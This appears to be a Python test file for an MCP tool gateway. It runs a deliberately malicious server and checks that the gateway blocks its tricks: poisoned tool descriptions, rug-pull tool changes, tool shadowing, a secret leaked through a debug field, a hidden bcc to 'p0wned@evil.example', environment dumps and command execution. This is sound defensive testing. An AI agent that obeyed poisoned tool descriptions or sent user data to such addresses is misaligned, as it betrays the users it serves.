"""A server that lies: `mcp-server-everything-wrong` behind the stdio gateway.

The reviewer has accepted what an honest reader would take for granted; each trick must fail.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

from home import READ, home, met, methods, review
from parts import Parts
from servers import ENV, SECRET, Check, gateway
from talk import Talk, code_of

from lictor.model import Impact, ToolKey

SERVER = "wrong"
ACCEPTED = {
    "greet": READ,
    "echo": READ,
    "fetch": frozenset({Impact.SEND}),
    "send_email": frozenset({Impact.WRITE}),
}
"""What the reviewer lets in; the rest of what it offers he blocks, or never looks at.

The mail is none, it only says so; as `send` it would also need a person's yes here.
"""
BLOCKED = frozenset({"run_command", "env_var"})
LIMITS = {
    f"{SERVER}/send_email": {"to": {"equals": ["ann@example.org"]}},
    f"{SERVER}/echo": {"text": {"any": True}},
    f"{SERVER}/fetch": {"url": {"url_under": "https://api.example.org/v1"}},
}


def check(parts: Parts, folder: Path) -> list[Check]:
    """What is true of each trick."""
    command = [str(parts.hostile.with_name("mcp-server-everything-wrong"))]
    toml = home(folder)
    log = str(folder / "stderr.txt")
    with Talk(gateway(toml, SERVER, command), env=ENV, log=log) as talk:
        talk.tools()
    found = {key.partition("/")[2]: tool for key, tool in met(folder).items()}
    review(folder, [found[each] for each in BLOCKED], blocked=True)
    for name, impact in ACCEPTED.items():
        target = ("to",) if name == "send_email" else ("url",) if name == "fetch" else ()
        review(folder, [found[name]], lambda _, impact=impact: impact, target=target)
    review(folder, methods(SERVER).values(), lambda _: READ)
    home(folder, {str(ToolKey.checked(SERVER, each)) for each in ACCEPTED}, limits=LIMITS)
    with Talk(command, env=ENV, log=log) as talk:
        checks = list(_control(talk))
    with Talk(gateway(toml, SERVER, command), env=ENV, log=log) as talk:
        return checks + list(_tricks(talk))


def _control(talk: Talk) -> Iterator[Check]:
    """Without the gateway every trick works: otherwise nothing is shown here."""
    talk.call("greet")
    yield "unguarded: the rug is pulled", "french" in str(talk.tools()["greet"])
    yield "unguarded: poison is read", "<IMPORTANT>" in str(talk.tools()["joke_teller"])
    yield "unguarded: the field leaks", SECRET in str(talk.call("echo", text="a", debug=SECRET))
    yield (
        "unguarded: the copy is sent",
        "attacker"
        in str(talk.call("send_email", to=["ann@example.org"], bcc=["p0wned@evil.example"])),
    )
    yield "unguarded: the environment is shown", SECRET in str(talk.call("env_var"))
    yield (
        "unguarded: the command runs",
        SECRET in str(talk.call("run_command", command="echo", args=[SECRET])),
    )


def _tricks(talk: Talk) -> Iterator[Check]:
    shown = talk.tools()
    text = str(shown)
    yield "poisoned descriptions are hidden", "IMPORTANT" not in text and "bcc` field" not in text
    yield "only reviewed tools are listed", shown.keys() - {"lictor_pending"} == ACCEPTED.keys()
    yield from _stopped(talk, "joke_teller", {}, "tool_unreviewed")
    yield from _stopped(talk, "shadowing_attack", {}, "tool_unreviewed")
    yield from _stopped(talk, "run_command", {"command": "echo", "args": ["x"]}, "tool_blocked")
    yield from _stopped(talk, "env_var", {}, "tool_blocked")
    yield from _stopped(talk, "echo", {"text": "a", "debug": SECRET}, "grant_limit")
    copied = {"to": ["ann@example.org"], "bcc": ["p0wned@evil.example"]}
    yield from _stopped(talk, "send_email", copied, "grant_limit")
    yield from _stopped(talk, "fetch", {"url": "http://127.0.0.1:1/"}, "grant_limit")
    yield "an honest mail goes", not code_of(talk.call("send_email", to=["ann@example.org"]))
    yield "an honest echo goes", not code_of(talk.call("echo", text="a"))
    yield "the first greeting goes", not code_of(talk.call("greet"))
    yield from _stopped(talk, "greet", {}, "tool_changed")
    yield "the pulled rug is hidden", "greet" not in talk.tools()
    yield "nothing of it reached the agent", "french" not in str(talk.told)


def _stopped(talk: Talk, name: str, given: dict[str, object], code: str) -> Iterator[Check]:
    result = talk.call(name, **given)
    yield f"{name} {code} (got {code_of(result)})", code_of(result) == code
    yield f"{name} tells nothing", SECRET not in str(result)
